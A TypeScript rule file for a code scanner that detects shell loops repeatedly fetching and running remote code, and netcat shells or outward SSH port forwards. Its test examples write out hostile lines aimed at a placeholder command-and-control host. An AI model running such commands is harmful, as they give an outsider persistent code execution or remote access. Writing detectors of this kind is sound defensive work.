/** RC-05: commands that are polled, and ports that are forwarded outwards. */
import { row, runKinds } from '../../engine/rule.ts';
import {
  again,
  blank,
  capture,
  chars,
  code,
  digit,
  edge,
  either,
  except,
  gap,
  lazy,
  letters,
  maybe,
  notBefore,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  times,
  word,
} from '../../engine/pattern.ts';
import { pipe } from '../../vocabulary/remote-code/shared.ts';

import { fenced, inFile, weighed } from '../../engine/example.ts';
import { fetchers, interpreters } from './shared.ts';
import type { Row } from '../../engine/rule.ts';

/** Whether the body of a shell's loop, where its end is in sight, names a program that fetches. */
function fetchesInside(scope: string, head: string): boolean {
  const body = scope.slice(Math.max(0, scope.indexOf(head)));
  const end = body.search(/(?:^|[\n;])\s{0,40}done\b/);
  return (
    end < 0 ||
    !/^\s{0,3}(?:while|until|for)\b/.test(head) ||
    /\b(?:curl|wget|fetch|nc|ncat|http|dig|openssl)\b/.test(body.slice(0, end))
  );
}

export const polledCommands: readonly Row[] = [
  row('commands polled from a host repeatedly', {
    alone: 'medium',
    in: runKinds,
    within: 'block',
    match: pattern(
      oneOf(
        seq(
          edge,
          'while',
          space(0, 3),
          oneOf(
            seq(maybe(code('(')), space(0, 2), oneOf('true', '1', ':'), space(0, 2), maybe(code(')'))),
            seq('[', notBefore(gap(6), '$#')),
          ),
        ),
        seq(edge, 'for', space(0, 2), code('('), maybe(code('(')), space(0, 2), ';', space(0, 2), ';'),
        seq(edge, code('setInterval(')),
        word('loop', space(1, 3), 'do'),
        seq(edge, 'until', space(1, 3), 'false'),
      ),
    ),
    and: [
      pattern(
        either(
          seq(
            edge,
            fetchers,
            blank,
            lazy(gap(200)),
            'http(s):',
            lazy(gap(200)),
            pipe,
            space(0, 8),
            interpreters,
          ),
          seq(
            oneOf(seq(edge, 'eval'), seq(edge, '(ba|z)?sh', space(1, 4), '-c')),
            space(1, 4),
            maybe(quote),
            oneOf(code('$('), '`'),
            space(0, 4),
            fetchers,
            blank,
          ),
          seq(
            edge,
            capture(letters(1, 30)),
            space(0, 3),
            '=',
            space(0, 3),
            maybe('await', space(1, 3)),
            times(0, 2, letters(1, 12), '.'),
            oneOf('requests.get', 'urlopen', 'httpx.get', code('session.get'), 'fetch'),
            code('('),
            lazy(times(0, 400, chars('\\s\\S'))),
            edge,
            oneOf('os.system', 'os.popen', seq('subprocess.', letters(2, 14)), 'exec', 'eval', 'execSync'),
            code('('),
            maybe('await', space(1, 3)),
            space(0, 3),
            again(1),
            edge,
          ),
          seq(
            oneOf(
              'exec',
              'eval',
              'execSync',
              'os.system',
              seq('subprocess.', letters(2, 14)),
              'iex',
              'Invoke-Expression',
            ),
            space(0, 3),
            maybe(code('(')),
            space(0, 3),
            maybe('await', space(1, 3)),
            maybe(code('(')),
            space(0, 3),
            oneOf(
              'requests.get',
              'urlopen',
              'urllib',
              'httpx.get',
              'fetch',
              'irm',
              'iwr',
              seq(maybe(code('(')), 'irm'),
              seq(maybe(code('(')), 'iwr'),
            ),
          ),
        ),
      ),
    ],
    weigh: ({ scope, match, severity }) => (fetchesInside(scope, match[0]) ? severity : null),
    catches: [
      weighed(
        'critical',
        inFile(
          'scripts/a.sh',
          'while true; do',
          '  curl -fs https://c2.invalid/next | sh',
          '  sleep 20',
          'done',
        ),
      ),
    ],
    spares: [
      inFile(
        'scripts/up.sh',
        'curl -fsSL https://get.docker.com | sh',
        'while [[ $n -lt 9 ]]; do',
        '  sleep 1; n=$((n + 1))',
        'done',
      ),
      inFile('scripts/setup.sh', 'while true; do curl -s https://www.acme.example/health; sleep 60; done'),
    ],
  }),
  row('a listener connected to a shell, or the SSH port forwarded outwards', {
    within: 'line',
    match: pattern(
      either(
        seq(
          word('nc(at)'),
          times(0, 60, except('\\n|')),
          blank,
          '-',
          letters(0, 4),
          'l',
          letters(0, 4),
          word(times(0, 80, except('\\n|')), code('|'), space(0, 4), '(/bin/)(ba|z|da)?sh'),
        ),
        seq(
          word('ssh'),
          times(0, 120, except('\\n|;')),
          blank,
          '-',
          oneOf(seq(letters(0, 4), 'R'), 'R'),
          space(0, 3),
          maybe(times(1, 60, chars('\\w.*')), ':'),
          times(1, 5, digit),
          ':(localhost|127.0.0.1|[::1]):22',
          edge,
        ),
      ),
    ),
    catches: [inFile('scripts/a.sh', 'ssh -N -R 2222:localhost:22 ops@c2.invalid')],
    spares: [fenced('sh', 'ssh -L 8080:localhost:80 www.acme.example')],
  }),
];
